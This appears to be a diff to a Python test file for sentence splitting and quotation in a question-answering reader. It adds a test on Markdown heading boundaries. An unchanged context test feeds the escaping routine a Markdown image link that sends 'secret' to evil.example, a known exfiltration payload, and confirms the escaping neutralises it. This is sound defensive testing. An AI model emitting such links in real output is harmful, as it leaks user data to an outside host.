@@ -29,6 +29,19 @@ def test_the_quote_is_the_sentence_holding_the_span_cut_around_it_when_long():
     assert quote_around("Jackie Robinson.", 0, 15) == "Jackie Robinson."
 
 
+def test_markdown_headings_and_paragraphs_bound_sentences():
+    text = "## How answers lead\n\nThe span comes first, cited\n\n# Reader\nIt reads one passage. It is small"
+    assert [text[a:b] for a, b in sentences(text)] == [
+        "The span comes first, cited",
+        "It reads one passage.",
+        "It is small",
+    ]
+    chosen = best_sentences("how do answers lead with the span", [(1, text)], k=1)
+    assert chosen == [(1, "The span comes first, cited")]  # not the heading glued to it
+    start = text.index("one passage")
+    assert quote_around(text, start, start + 11) == "It reads one passage."
+
+
 def test_the_lead_escapes_markdown_in_document_text():
     lead = span_lead("Seurat", 1, "A ![x](https://evil.example/?q=secret) *painting* by Seurat")
     assert lead.startswith("**Seurat** [1] — “") and "![x](" not in lead and "\\!\\[x\\]" in lead
